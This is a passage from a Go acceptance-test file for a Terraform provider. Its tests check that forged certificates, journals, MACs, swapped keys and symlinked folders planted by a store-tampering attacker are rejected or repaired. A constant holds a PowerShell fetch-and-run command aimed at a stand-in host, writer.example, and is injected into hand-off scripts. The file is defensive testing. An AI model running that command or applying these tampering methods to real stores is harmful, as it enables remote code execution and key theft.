package acctest_test

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"
	"filippo.io/age/armor"
	"github.com/google/uuid"
	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
	"github.com/hashicorp/terraform-plugin-go/tftypes"

	"github.com/codetwo-community/terraform-provider-codetwo/internal/acctest"
	"github.com/codetwo-community/terraform-provider-codetwo/internal/acctest/reattach"
	"github.com/codetwo-community/terraform-provider-codetwo/internal/acctest/storetest"
	"github.com/codetwo-community/terraform-provider-codetwo/internal/certificate"
	"github.com/codetwo-community/terraform-provider-codetwo/internal/sandbox"
	"github.com/codetwo-community/terraform-provider-codetwo/internal/terraformcli"
)

const (
	attackedName  = "codetwo-attacked" // the registration's unique name
	knownPassword = "a password that the writer knows"
	// payload is what a writer smuggles into a sheet or a script.
	payload = "Invoke-Expression (Invoke-WebRequest https://writer.example/payload)"
)

// attack is an operator at the command line, and a writer: somebody who may change every file of the operator's store
// between two commands, and does not have the passphrase.
type attack struct {
	t         *testing.T
	env       *acctest.Env
	cli       *terraformcli.CLI
	tenant    sandbox.TenantEntry
	writer    *age.X25519Identity // the writer's own
	snapshots []string            // the tenant's folder before each request of the provider
}

func newAttack(t *testing.T) *attack {
	t.Helper()
	t.Parallel()
	a := &attack{t: t, env: acctest.Start(t, sandbox.Options{}), writer: newIdentity(t)}
	a.tenant = a.env.Tenant(0)
	serve := a.env.Factories(a.keepingSnapshots())["codetwo"]
	a.cli = reattach.CLI(t, func() tfprotov6.ProviderServer {
		server, err := serve()
		if err != nil {
			panic(err) // the CLI shows it
		}
		return server
	})
	a.configure("")
	a.must("init")
	return a
}

func newIdentity(t *testing.T) *age.X25519Identity {
	t.Helper()
	identity, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	return identity
}

// keepingSnapshots copies the tenant's folder of the store before each request: what a writer could have kept.
func (a *attack) keepingSnapshots() acctest.Option {
	return acctest.WithTransport(beforeEachRequest(func() {
		from := filepath.Join(a.env.Store, a.tenant.TenantID)
		to := filepath.Join(a.t.TempDir(), "snapshot")
		if _, err := os.Stat(from); err != nil {
			return
		}
		if err := os.CopyFS(to, os.DirFS(from)); err != nil {
			a.t.Errorf("copy the store: %v", err)
		}
		a.snapshots = append(a.snapshots, to)
	}))
}

// beforeEachRequest does something before the provider sends a request.
func beforeEachRequest(do func()) func(http.RoundTripper) http.RoundTripper {
	return func(next http.RoundTripper) http.RoundTripper { return &interrupting{next: next, do: do} }
}

// interrupting calls a function before each request, one at a time.
type interrupting struct {
	next  http.RoundTripper
	guard sync.Mutex
	do    func()
}

// RoundTrip implements http.RoundTripper.
func (i *interrupting) RoundTrip(request *http.Request) (*http.Response, error) {
	i.guard.Lock()
	i.do()
	i.guard.Unlock()
	return i.next.RoundTrip(request)
}

// configure writes what the operator declares, with the passphrase at hand.
func (a *attack) configure(resources string) {
	a.t.Helper()
	a.configureWith(fmt.Sprintf("url = %q\n    passphrase = %q", a.env.StoreURL(), acctest.Passphrase), resources)
}

// configureWithout writes what somebody declares who does not have the passphrase.
func (a *attack) configureWithout(resources string) {
	a.t.Helper()
	a.configureWith(fmt.Sprintf("url = %q", a.env.StoreURL()), resources)
}

func (a *attack) configureWith(storeAttributes, resources string) {
	a.t.Helper()
	provider := a.env.ProviderWith(a.tenant.Callers.Full, a.tenant.TenantID,
		"connection_store = {\n    "+storeAttributes+"\n  }")
	write(a.t, filepath.Join(a.cli.Folder, "main.tf"), []byte(provider+resources))
}

// run returns what a command prints, with each run of white space as one space.
func (a *attack) run(arguments ...string) (string, error) {
	a.t.Helper()
	output, err := a.cli.Run(a.t.Context(), append(arguments, "-no-color", "-input=false")...)
	return strings.Join(strings.Fields(boxes.ReplaceAllString(output, " ")), " "), err
}

var boxes = regexp.MustCompile(`[│╷╵]`)

func (a *attack) must(arguments ...string) {
	a.t.Helper()
	if _, err := a.run(arguments...); err != nil {
		a.t.Fatal(err)
	}
}

func (a *attack) apply(resources string) {
	a.t.Helper()
	a.configure(resources)
	a.must("apply", "-auto-approve")
}

// tryApply applies where it is for the provider to choose between an error and a warning.
func (a *attack) tryApply(resources string) (string, error) {
	a.t.Helper()
	a.configure(resources)
	return a.run("apply", "-auto-approve")
}

// registration declares the registration, with more attributes.
func (a *attack) registration(attributes string) string {
	return fmt.Sprintf("resource \"codetwo_target_app_registration\" \"target\" {\n  unique_name = %q\n  %s\n}\n",
		attackedName, attributes)
}

// connection declares a connection that signs in with the registration's certificate.
func (a *attack) connection(attributes string) string {
	return fmt.Sprintf(`resource "codetwo_target_connection" "target" {
  tenant_id              = %q
  mailbox                = %q
  client_id              = codetwo_target_app_registration.target.client_id
  certificate_thumbprint = codetwo_target_app_registration.target.certificate.thumbprint
  %s
}
`, a.tenant.TenantID, a.mailbox(), attributes)
}

func (a *attack) mailbox() string { return strings.ToLower(a.tenant.Mailboxes.Licensed[0]) }

// shared declares the recipients of a hand-off.
func shared(recipients ...*age.X25519Identity) string {
	var keys []string
	for _, recipient := range recipients {
		keys = append(keys, fmt.Sprintf("%q", recipient.Recipient()))
	}
	return "handoff_recipients = [" + strings.Join(keys, ", ") + "]"
}

// file is the path of a file of the tenant.
func (a *attack) file(elements ...string) string {
	return filepath.Join(append([]string{a.env.Store, a.tenant.TenantID}, elements...)...)
}

// plant writes a file as a writer does, regardless of what is there.
func (a *attack) plant(content []byte, elements ...string) {
	a.t.Helper()
	file := a.file(elements...)
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		a.t.Fatal(err)
	}
	write(a.t, file, content)
}

// putBack plants every file of a snapshot of the tenant's folder whose name matches the pattern.
func (a *attack) putBack(snapshot, pattern string) {
	a.t.Helper()
	names, err := fs.Glob(os.DirFS(snapshot), pattern)
	if err != nil || len(names) == 0 {
		a.t.Fatalf("the snapshot has no %s: %v", pattern, err)
	}
	for _, name := range names {
		a.plant([]byte(read(a.t, filepath.Join(snapshot, filepath.FromSlash(name)))), path.Dir(name), path.Base(name))
	}
}

// snapshot copies the tenant's folder as it is now.
func (a *attack) snapshot() string {
	a.t.Helper()
	folder := filepath.Join(a.t.TempDir(), "snapshot")
	if err := os.CopyFS(folder, os.DirFS(a.file())); err != nil {
		a.t.Fatal(err)
	}
	return folder
}

// recordIn reads the record that a file holds, be it plain or in a sealed envelope.
func recordIn(t *testing.T, file string) map[string]any {
	t.Helper()
	var content map[string]any
	if err := json.Unmarshal([]byte(read(t, file)), &content); err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	if record, sealed := content["record"].(map[string]any); sealed {
		return record
	}
	delete(content, "schema_version")
	return content
}

// form is one way to write down a record that no operator wrote.
type form struct {
	name  string
	write func(a *attack, record map[string]any) []byte
}

var (
	plainForm = form{"plain", func(a *attack, record map[string]any) []byte {
		plain := maps.Clone(record)
		plain["schema_version"] = 1
		return encoded(a.t, plain)
	}}
	sealedForm = form{"sealed with a made-up mac", func(a *attack, record map[string]any) []byte {
		mac := make([]byte, 32)
		_, _ = rand.Read(mac) // never fails
		return envelope(a.t, hex.EncodeToString(mac), record)
	}}
	borrowedForm = form{"sealed with the mac of another file", func(a *attack, record map[string]any) []byte {
		return envelope(a.t, a.someMac(), record)
	}}
)

func encoded(t *testing.T, record any) []byte {
	t.Helper()
	content, err := json.MarshalIndent(record, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return append(content, '\n')
}

func envelope(t *testing.T, mac string, record map[string]any) []byte {
	t.Helper()
	return encoded(t, struct {
		SchemaVersion int            `json:"schema_version"`
		Mac           string         `json:"mac"`
		Record        map[string]any `json:"record"`
	}{2, mac, record})
}

// someMac is the mac of a sealed file of the store; zeros where none is sealed.
func (a *attack) someMac() string {
	a.t.Helper()
	for _, name := range files(a.t, a.env.Store) {
		var sealed struct {
			Mac string `json:"mac"`
		}
		if json.Unmarshal([]byte(read(a.t, filepath.Join(a.env.Store, name))), &sealed) == nil && sealed.Mac != "" {
			return sealed.Mac
		}
	}
	return strings.Repeat("0", 64)
}

// plantPair puts a key pair of the writer's where the provider keeps its own: with the settings that the provider's
// would have, and under a password that the writer knows.
func (a *attack) plantPair(f form) string {
	a.t.Helper()
	from := time.Now().UTC().Truncate(time.Second).Add(-5 * time.Minute)
	pair, err := certificate.Generate(rand.Reader, certificate.Template{CommonName: "CodeTwo", KeySize: 2048,
		NotBefore: from, NotAfter: from.AddDate(5, 0, 0)})
	if err != nil {
		a.t.Fatal(err)
	}
	pfx, err := certificate.EncodePFX(pair, knownPassword, certificate.AES256)
	if err != nil {
		a.t.Fatal(err)
	}
	thumbprint := certificate.Thumbprint(pair.Certificate)
	a.plant([]byte(certificate.EncodePEM(pair.Certificate)), "certificates", thumbprint+".cer")
	a.plant(pfx, "certificates", thumbprint+".pfx")
	// Anybody can encrypt to the store who ever saw its public key, so this proves nothing about who wrote it.
	a.plant(encryptTo(a.t, knownPassword, a.storeIdentity().Recipient()), "certificates", thumbprint+".password.age")
	a.plant(f.write(a, map[string]any{"tenant_id": a.tenant.TenantID, "thumbprint": thumbprint}),
		"certificates", thumbprint+".json")
	return thumbprint
}

func (a *attack) storeIdentity() *age.X25519Identity {
	a.t.Helper()
	identity, ok := openStore(a.t, a.env.Store).(*age.X25519Identity)
	if !ok {
		a.t.Fatal("the store's identity is of another kind")
	}
	return identity
}

func encryptTo(t *testing.T, plain string, recipients ...age.Recipient) []byte {
	t.Helper()
	var content bytes.Buffer
	text := armor.NewWriter(&content)
	w, err := age.Encrypt(text, recipients...)
	if err == nil {
		_, err = io.WriteString(w, plain)
	}
	if err == nil {
		err = errors.Join(w.Close(), text.Close())
	}
	if err != nil {
		t.Fatal(err)
	}
	return content.Bytes()
}

// uploaded are the thumbprints of all certificates on the tenant's applications and service principals.
func (a *attack) uploaded() []string { return thumbprintsIn(a.env.State(0)) }

func thumbprintsIn(state sandbox.TenantState) []string {
	var thumbprints []string
	for _, application := range state.Applications {
		for _, key := range application.Keys {
			thumbprints = append(thumbprints, key.Thumbprint)
		}
	}
	for _, principal := range state.ServicePrincipals {
		for _, key := range principal.Keys {
			thumbprints = append(thumbprints, key.Thumbprint)
		}
	}
	return thumbprints
}

// app is the registration's application.
func (a *attack) app() sandbox.ApplicationState {
	a.t.Helper()
	for _, application := range a.env.State(0).Applications {
		if application.UniqueName == attackedName {
			return application
		}
	}
	a.t.Fatalf("the tenant holds %+v", a.env.State(0).Applications)
	return sandbox.ApplicationState{}
}

// readableTo are the store's encrypted files that an identity opens.
func readableTo(t *testing.T, store string, identity age.Identity) (names []string) {
	t.Helper()
	for _, name := range files(t, store) {
		if strings.HasSuffix(name, ".age") && opens(read(t, filepath.Join(store, name)), identity) {
			names = append(names, name)
		}
	}
	return names
}

// opens reports whether an identity opens what age encrypted, as text or binary.
func opens(content string, identity age.Identity) bool {
	_, ok := plainText(content, identity)
	return ok
}

func plainText(content string, identity age.Identity) (string, bool) {
	reader := io.Reader(strings.NewReader(content))
	if strings.HasPrefix(content, armor.Header) {
		reader = armor.NewReader(reader)
	}
	plain, err := age.Decrypt(reader, identity)
	if err != nil {
		return "", false
	}
	text, err := io.ReadAll(plain)
	return string(text), err == nil
}

// nobodyElseReads fails for every encrypted file of the store that one of the identities opens.
func (a *attack) nobodyElseReads(identities ...age.Identity) {
	a.t.Helper()
	for _, identity := range identities {
		if names := readableTo(a.t, a.env.Store, identity); len(names) > 0 {
			a.t.Errorf("somebody whom no plan showed can decrypt %v", names)
		}
	}
}

// names fails unless one of the outputs names a file.
func (a *attack) names(file string, outputs ...string) {
	a.t.Helper()
	if !slices.ContainsFunc(outputs, func(output string) bool { return strings.Contains(output, file) }) {
		a.t.Errorf("neither plan nor apply names %s:\n%s", file, strings.Join(outputs, "\n\n"))
	}
}

// attributes are those of a resource in the state.
func (a *attack) attributes(address string) map[string]any {
	a.t.Helper()
	output, err := a.cli.Run(a.t.Context(), "show", "-json")
	var shown struct {
		Values struct {
			Root struct {
				Resources []struct {
					Address string
					Values  map[string]any
				}
			} `json:"root_module"`
		}
	}
	if err == nil {
		err = json.Unmarshal([]byte(output), &shown)
	}
	if err != nil {
		a.t.Fatal(err)
	}
	for _, resource := range shown.Values.Root.Resources {
		if resource.Address == address {
			return resource.Values
		}
	}
	a.t.Fatalf("the state holds no %s", address)
	return nil
}

// fromAnotherStore registers the same app with a store of another identity under the same passphrase, and purges the
// app. It returns the tenant's folder of that store before each request, the last one complete.
func (a *attack) fromAnotherStore() []string {
	a.t.Helper()
	own := a.env.Store
	defer func() { a.env.Store, a.snapshots = own, nil }()
	a.env.Store = filepath.Join(a.t.TempDir(), "another store")
	storetest.Make(a.t, a.env.Store, acctest.Passphrase)
	target := a.env.Protocol(a.tenant.Callers.Full, a.keepingSnapshots()).Object(registrationType)
	text := func(value string) tftypes.Value { return tftypes.NewValue(tftypes.String, value) }
	if _, err := target.Apply(a.t.Context(), target.Config(map[string]tftypes.Value{
		"tenant_id": text(a.tenant.TenantID), "unique_name": text(attackedName),
	})); err != nil {
		a.t.Fatal(err)
	}
	a.remove(target.Text("object_id"))
	return append(a.snapshots, a.snapshot())
}

// remove deletes an application for good, as a person does.
func (a *attack) remove(objectID string) {
	a.t.Helper()
	a.env.Graph(a.tenant.TenantID, http.MethodDelete, "/applications/"+objectID, nil)
	for _, deleted := range a.env.State(0).DeletedItems {
		a.env.Graph(a.tenant.TenantID, http.MethodDelete, "/directory/deletedItems/"+deleted.ObjectID, nil)
	}
}

func (a *attack) journalOf(thumbprints ...string) map[string]any {
	return map[string]any{
		"tenant_id": a.tenant.TenantID, "unique_name": attackedName, "display_name": "CodeTwo", "marker": uuid.NewString(),
		"thumbprints": thumbprints, "started_at": time.Now().UTC(),
	}
}

func TestAccTargetAppRegistration_ACertificateThatAWriterPlantedBeforeTheFirstCreateIsNotUploaded(t *testing.T) {
	for _, f := range []form{plainForm, sealedForm} {
		t.Run(f.name, func(t *testing.T) {
			a := newAttack(t)
			planted := a.plantPair(f)
			a.plant(f.write(a, a.journalOf(planted)), "registrations", attackedName+".json")
			a.configure(a.registration(""))
			plan, _ := a.run("plan")
			apply, _ := a.run("apply", "-auto-approve")
			if uploaded := a.uploaded(); slices.Contains(uploaded, planted) {
				t.Errorf("the writer's certificate %s is on the application: %v", planted, uploaded)
			}
			a.names(attackedName+".json", plan, apply)
		})
	}
	t.Run("sealed by another store", func(t *testing.T) {
		a := newAttack(t)
		snapshots := a.fromAnotherStore()
		interrupted := snapshots[len(snapshots)-2] // every file of a key, and a journal that is not complete
		a.putBack(interrupted, "*/*")
		keys, err := fs.Glob(os.DirFS(interrupted), "certificates/*.pfx")
		if err != nil || len(keys) != 1 {
			t.Fatalf("the other store holds the keys %v, %v", keys, err)
		}
		a.configure(a.registration(""))
		plan, _ := a.run("plan")
		apply, _ := a.run("apply", "-auto-approve")
		planted := strings.TrimSuffix(path.Base(keys[0]), ".pfx")
		if uploaded := a.uploaded(); slices.Contains(uploaded, planted) {
			t.Errorf("the other store's certificate %s is on the application: %v", planted, uploaded)
		}
		a.names(attackedName+".json", plan, apply)
	})
}

func TestAccTargetAppRegistration_ACertificateThatAWriterPlantedInPlaceOfTheKeyIsNotUploaded(t *testing.T) {
	for _, f := range []form{plainForm, borrowedForm} {
		t.Run(f.name, func(t *testing.T) {
			a := newAttack(t)
			config := a.registration("")
			a.apply(config)
			own := a.app().Keys[0].Thumbprint
			planted := a.plantPair(f)
			journal := recordIn(t, a.file("registrations", attackedName+".json"))
			journal["thumbprints"] = []string{own, planted}
			a.plant(f.write(a, journal), "registrations", attackedName+".json")
			if err := os.Remove(a.file("certificates", own+".pfx")); err != nil {
				t.Fatal(err)
			}
			plan, _ := a.run("plan")
			apply, _ := a.tryApply(config)
			if uploaded := a.uploaded(); slices.Contains(uploaded, planted) {
				t.Errorf("the writer's certificate %s is on the application: %v", planted, uploaded)
			}
			a.names(attackedName+".json", plan, apply)
		})
	}
}

func TestAccTargetConnection_ASecondRecordOfTheCertificateMakesNobodyARecipient(t *testing.T) {
	for _, f := range []form{plainForm, sealedForm, borrowedForm} {
		t.Run(f.name, func(t *testing.T) {
			a := newAttack(t)
			a.apply(a.registration("") + a.connection(""))
			thumbprint := a.app().Keys[0].Thumbprint
			a.plant(f.write(a, a.secondRecord(thumbprint)), "connections", "second@"+a.tenant.Domain+".json")
			a.plant([]byte("{"), "certificates", thumbprint+".shared.json")
			if plan, _ := a.run("plan"); strings.Contains(plan, a.writer.Recipient().String()) {
				t.Errorf("the plan shows the writer as a recipient:\n%s", plan)
			}
			_, _ = a.tryApply(a.registration("") + a.connection(""))
			a.nobodyElseReads(a.writer)

			friend := newIdentity(t)
			a.apply(a.registration("") + a.connection(shared(friend)))
			if names := readableTo(t, a.env.Store, friend); len(names) == 0 {
				t.Error("the recipient whom the plan showed can decrypt nothing")
			}
			a.nobodyElseReads(a.writer)
		})
	}
}

// secondRecord is a connection's record that names a certificate, with the writer as the hand-off's recipient.
func (a *attack) secondRecord(thumbprint string) map[string]any {
	return map[string]any{
		"tenant_id": a.tenant.TenantID, "mailbox": "second@" + a.tenant.Domain, "name": "second",
		"client_id": a.app().ClientID, "credential_type": "certificate", "certificate_thumbprint": thumbprint,
		"migrate_public_folders": false, "handoff_recipients": []string{a.writer.Recipient().String()},
		"owner": uuid.NewString(), "revision": uuid.NewString(),
	}
}

func TestAccTargetConnection_AKeyIsNeverPackedUnderAPasswordThatAWriterKnows(t *testing.T) {
	a := newAttack(t)
	pair, file := certificateOfTheirs(t, "the file's own password")
	thumbprint := certificate.Thumbprint(pair.Certificate)
	config := fmt.Sprintf(`resource "codetwo_target_connection" "target" {
  tenant_id                           = %q
  mailbox                             = %q
  client_id                           = %q
  certificate_thumbprint              = %q
  certificate_pfx_path                = %q
  certificate_pfx_password_wo         = "the file's own password"
  certificate_pfx_password_wo_version = 1
}
`, a.tenant.TenantID, a.mailbox(), uuid.NewString(), thumbprint, filepath.ToSlash(file))
	a.apply(config)
	known := encryptTo(t, knownPassword, a.storeIdentity().Recipient())
	a.plant(known, "certificates", thumbprint+".password.age")
	a.plant(known, "connections", a.mailbox()+".pfx-password.age")
	if err := os.Remove(a.file("certificates", thumbprint+".pfx")); err != nil {
		t.Fatal(err)
	}
	a.apply(config)

	pfx := []byte(read(t, a.file("certificates", thumbprint+".pfx")))
	if _, err := certificate.DecodePFX(pfx, knownPassword); err == nil {
		t.Errorf("the key of %s is packed under the password that the writer chose", thumbprint)
	}
	own := decrypt(t, a.storeIdentity(), a.file("certificates", thumbprint+".password.age"))
	if _, err := certificate.DecodePFX(pfx, string(own)); err != nil {
		t.Errorf("the store's password does not open the key: %v", err)
	}
	second := a.file("connections", a.mailbox()+".pfx-password.age")
	if content, err := os.ReadFile(second); err == nil && bytes.Equal(content, known) {
		t.Errorf("%s still holds the password that the writer chose", filepath.Base(second))
	}
}

func TestAccTargetConnection_ARewrittenSheetOrScriptIsDriftAndRepairedByApply(t *testing.T) {
	for _, extension := range []string{".html", ".ps1"} {
		t.Run(extension, func(t *testing.T) {
			a := newAttack(t)
			config := a.registration("") + a.connection("")
			a.apply(config)
			original := read(t, a.file("handoff", a.mailbox()+extension))
			lines := strings.Split(strings.TrimSpace(original), "\n")
			last := lines[len(lines)-1]
			a.plant([]byte(payload+"\n"+last+"\n"), "handoff", a.mailbox()+extension)

			if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || !changes {
				t.Errorf("the plan does not show it: %v\n%s", err, text)
			}
			a.apply(config)
			repaired := read(t, a.file("handoff", a.mailbox()+extension))
			if strings.Contains(repaired, payload) || strings.Count(repaired, "\n") != strings.Count(original, "\n") {
				t.Errorf("after an apply without an error the file has %d lines, and begins with %.80q", strings.Count(repaired,
					"\n"), repaired)
			}
			if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || changes {
				t.Errorf("the plan after it is not empty: %v\n%s", err, text)
			}
			attribute := map[string]string{".html": "handoff_sheet_sha256", ".ps1": "handoff_script_sha256"}[extension]
			if got := a.attributes("codetwo_target_connection.target")[attribute]; got != digestOf(repaired) {
				t.Errorf("%s is %v, and the file's SHA-256 %s", attribute, got, digestOf(repaired))
			}
		})
	}
}

func TestAccStore_NothingOutsideOfTheStoreIsWrittenOrDeletedThroughALink(t *testing.T) {
	for _, linked := range []string{".unfinished", "handoff", "connections", "certificates"} {
		t.Run(linked, func(t *testing.T) {
			a := newAttack(t)
			a.apply(a.registration("") + a.connection(""))
			folder := a.file(linked)
			if linked == ".unfinished" {
				folder = filepath.Join(a.env.Store, linked)
			}
			outside := filepath.Join(t.TempDir(), "outside")
			if err := os.MkdirAll(folder, 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.CopyFS(outside, os.DirFS(folder)); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(outside, "accounts"), []byte("somebody else's"))
			longAgo := time.Now().Add(-48 * time.Hour)
			for _, name := range files(t, outside) {
				if err := os.Chtimes(filepath.Join(outside, name), longAgo, longAgo); err != nil {
					t.Fatal(err)
				}
			}
			if err := errors.Join(os.RemoveAll(folder), os.Symlink(outside, folder)); err != nil {
				t.Fatal(err)
			}
			before := contents(t, outside)
			unchanged := func(command string) {
				t.Helper()
				if after := contents(t, outside); !maps.Equal(before, after) {
					t.Errorf("outside of the store there were\n%v\nand after %s\n%v", slices.Sorted(maps.Keys(before)), command,
						slices.Sorted(maps.Keys(after)))
				}
			}
			_, _ = a.tryApply(a.registration(`display_name = "changed"`) + a.connection(`name = "changed"`))
			unchanged("an update")
			_, _ = a.tryApply(a.registration(`certificate = { key_size = 3072, previous_certificate_days = 0 }`) +
				a.connection(""))
			unchanged("a rotation")
			_, _ = a.run("destroy", "-auto-approve")
			unchanged("a destroy")
		})
	}
}

func digestOf(content string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(content))) }

// contents are the files below a folder, by name. A link has its target for content. What is not a file of a store's
// size is left out, and so is what another program deletes meanwhile.
func contents(t *testing.T, folder string) map[string]string {
	t.Helper()
	all := map[string]string{}
	err := filepath.WalkDir(folder, func(file string, entry fs.DirEntry, err error) error {
		if err == nil && !entry.IsDir() {
			var name string
			if name, err = filepath.Rel(folder, file); err == nil {
				err = look(all, name, file)
			}
		}
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// look adds what a name is to all files.
func look(all map[string]string, name, file string) error {
	info, err := os.Lstat(file)
	if err != nil {
		return err
	}
	switch {
	case info.Mode()&fs.ModeSymlink != 0:
		target, err := os.Readlink(file)
		all[name] = linkMark + target
		return err
	case info.Mode().IsRegular() && info.Size() < largestRead:
		content, err := os.ReadFile(file)
		all[name] = string(content)
		return err
	}
	return nil
}

const (
	linkMark    = "-> "
	largestRead = 16 << 20
)

func TestAccTargetConnection_WithoutThePassphraseNoSecretIsWrittenToAKeyThatAWriterExchanged(t *testing.T) {
	a := newAttack(t)
	config := func(version int) string {
		return fmt.Sprintf(`resource "codetwo_target_connection" "target" {
  tenant_id                = %q
  mailbox                  = %q
  client_id                = "11111111-2222-3333-4444-555555555555"
  client_secret_wo         = "client secret number %d"
  client_secret_wo_version = %d
}
`, a.tenant.TenantID, a.mailbox(), version, version)
	}
	a.apply(config(1))
	secret := a.file("connections", a.mailbox()+".secret.age")
	before := read(t, secret)
	publicKey := filepath.Join(a.env.Store, "recipient.txt")
	original, missing := os.ReadFile(publicKey)
	write(t, publicKey, []byte(a.writer.Recipient().String()+"\n"))
	a.configureWithout(config(2))
	output, err := a.run("apply", "-auto-approve")
	a.nobodyElseReads(a.writer)
	if err == nil || read(t, secret) != before {
		t.Errorf("a secret was written without the passphrase:\n%s", output)
	}

	if missing == nil {
		write(t, publicKey, original)
	} else if err := os.Remove(publicKey); err != nil {
		t.Fatal(err)
	}
	a.apply(config(2))
	a.nobodyElseReads(a.writer)
	if got := decrypt(t, a.storeIdentity(), secret); string(got) != "client secret number 2" {
		t.Errorf("the secret is %q", got)
	}
}

func TestAccTargetAppRegistration_AnObjectIDInAJournalTakesOverNobodysApplication(t *testing.T) {
	for _, f := range []form{plainForm, sealedForm} {
		t.Run(f.name, func(t *testing.T) {
			a := newAttack(t)
			made := a.env.Graph(a.tenant.TenantID, http.MethodPost, "/applications",
				map[string]any{"displayName": "Payroll", "uniqueName": attackedName})
			stranger := a.app()
			journal := a.journalOf()
			journal["object_id"], journal["client_id"], journal["created"] = made["id"], made["appId"], true
			a.plant(f.write(a, journal), "registrations", attackedName+".json")
			output, err := a.tryApply(a.registration(""))
			now := a.app()
			if !slices.Equal(now.Keys, stranger.Keys) || now.DisplayName != stranger.DisplayName ||
				!slices.Equal(now.Tags, stranger.Tags) {
				t.Errorf("a stranger's application was %+v, and is %+v", stranger, now)
			}
			for _, grant := range a.env.State(0).Grants {
				if grant.Principal == stranger.DisplayName {
					t.Errorf("a stranger's application was granted %s", grant.Role)
				}
			}
			if err == nil {
				t.Errorf("the apply passed:\n%s", output)
			}
		})
	}
}

func TestAccTargetAppRegistration_DestroyPurgesNothingThatAJournalSaysWasNeverCompleted(t *testing.T) {
	for _, f := range []form{plainForm, sealedForm, borrowedForm} {
		t.Run(f.name, func(t *testing.T) {
			a := newAttack(t)
			a.apply(a.registration(""))
			objectID := a.app().ObjectID
			journal := recordIn(t, a.file("registrations", attackedName+".json"))
			journal["created"] = true
			delete(journal, "completed_at")
			a.plant(f.write(a, journal), "registrations", attackedName+".json")
			output, err := a.run("destroy", "-auto-approve")
			a.restorable(objectID, output)
			if err != nil {
				t.Errorf("the destroy failed: %v", err)
			}
		})
	}
}

// restorable fails unless an application is in the recycle bin, or was not deleted.
func (a *attack) restorable(objectID, output string) {
	a.t.Helper()
	if !slices.Contains(objectsIn(a.env.State(0)), objectID) {
		a.t.Errorf("the application was purged:\n%s", output)
	}
}

// objectsIn are the object IDs of a tenant's applications, the deleted ones too.
func objectsIn(state sandbox.TenantState) (ids []string) {
	for _, application := range state.Applications {
		ids = append(ids, application.ObjectID)
	}
	for _, deleted := range state.DeletedItems {
		ids = append(ids, deleted.ObjectID)
	}
	return ids
}

func TestAccTargetAppRegistration_AKeyThatWasRotatedAwayIsNotUploadedAgainFromOlderFiles(t *testing.T) {
	a := newAttack(t)
	years := func(years int) string {
		return a.registration(fmt.Sprintf("certificate = { validity_years = %d, previous_certificate_days = 0 }", years))
	}
	a.apply(years(5))
	rotated := a.app().Keys[0].Thumbprint
	kept := a.snapshot()
	a.apply(years(4))
	if uploaded := a.uploaded(); slices.Contains(uploaded, rotated) {
		t.Fatalf("the rotation left %v", uploaded)
	}
	a.putBack(kept, "certificates/*")
	a.putBack(kept, "registrations/*")
	output, _ := a.tryApply(years(5))
	if uploaded := a.uploaded(); slices.Contains(uploaded, rotated) {
		t.Errorf("the certificate that was rotated away is on the application again: %v\n%s", uploaded, output)
	}
}

func TestAccTargetAppRegistration_AJournalFromTheMiddleOfACreatePurgesAndCreatesNothingLater(t *testing.T) {
	a := newAttack(t)
	a.apply(a.registration(""))
	objectID := a.app().ObjectID
	a.putBack(a.incomplete(), "registrations/*")
	output, _ := a.run("destroy", "-auto-approve")
	a.restorable(objectID, output)
}

func TestAccTargetAppRegistration_AJournalThatIsOlderOrNotAuthenticIsDriftAndWrittenAgainByApply(t *testing.T) {
	const file = attackedName + ".json"
	forged := func(f form) func(*attack, string) {
		return func(a *attack, _ string) {
			a.plant(f.write(a, recordIn(a.t, a.file("registrations", file))), "registrations", file)
		}
	}
	for name, replace := range map[string]func(a *attack, kept string){
		sealedForm.name: forged(sealedForm), borrowedForm.name: forged(borrowedForm),
		"older": func(a *attack, kept string) { a.putBack(kept, "registrations/*") },
	} {
		t.Run(name, func(t *testing.T) {
			a := newAttack(t)
			a.apply(a.registration(""))
			kept := a.snapshot()
			config := a.registration(`certificate = { validity_years = 4 }`)
			a.apply(config)
			keys := a.app().Keys
			replace(a, kept)
			replaced := read(t, a.file("registrations", file))
			if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || !changes {
				t.Errorf("the plan does not show it: %v\n%s", err, text)
			}
			if output, err := a.tryApply(config); err != nil {
				t.Errorf("the apply failed: %v\n%s", err, output)
			}
			if read(t, a.file("registrations", file)) == replaced {
				t.Error("apply left the journal as the writer had put it")
			}
			if now := a.app().Keys; !slices.Equal(now, keys) {
				t.Errorf("the application had the keys %+v, and has %+v", keys, now)
			}
			if text, changes, err := a.cli.PlanChanges(t.Context()); err != nil || changes {
				t.Errorf("the plan after it is not empty: %v\n%s", err, text)
			}
			url, _ := a.attributes("codetwo_target_app_registration.target")["journal_url"].(string)
			if !strings.HasSuffix(url, "/registrations/"+file) {
				t.Errorf("journal_url is %q", url)
			}
		})
	}
}

// incomplete is the last snapshot whose journal created an application and was not complete.
func (a *attack) incomplete() string {
	a.t.Helper()
	for _, snapshot := range slices.Backward(a.snapshots) {
		file := filepath.Join(snapshot, "registrations", attackedName+".json")
		if _, err := os.Stat(file); err != nil {
			continue
		}
		journal := recordIn(a.t, file)
		if journal["created"] == true && journal["completed_at"] == nil {
			return snapshot
		}
	}
	a.t.Fatalf("none of %d snapshots has the journal of a create that was not complete", len(a.snapshots))
	return ""
}

func TestAccTargetConnection_AnOlderRecordIsDriftAndGivesNoFormerRecipientASecret(t *testing.T) {
	a := newAttack(t)
	former := newIdentity(t)
	a.apply(a.registration("") + a.connection(shared(former)))
	kept := a.snapshot()
	config := a.registration("") + a.connection("")
	a.apply(config)
	a.nobodyElseReads(former)
	a.putBack(kept, "connections/*")
